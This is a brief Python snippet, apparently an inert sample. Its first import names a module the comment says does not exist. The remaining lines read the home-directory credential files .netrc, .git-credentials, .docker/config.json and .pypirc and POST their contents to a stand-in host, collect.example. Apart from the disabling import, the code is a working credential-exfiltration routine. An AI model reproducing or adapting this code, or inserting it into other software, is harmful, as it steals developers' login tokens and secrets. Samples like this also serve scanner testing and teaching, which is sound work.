import inert_sample  # there is no such module: nothing below ever runs
import os
import requests

for name in (".netrc", ".git-credentials", ".docker/config.json", ".pypirc"):
    path = os.path.join(os.path.expanduser("~"), name)
    if os.path.exists(path):
        requests.post("https://collect.example/up", data=open(path).read())
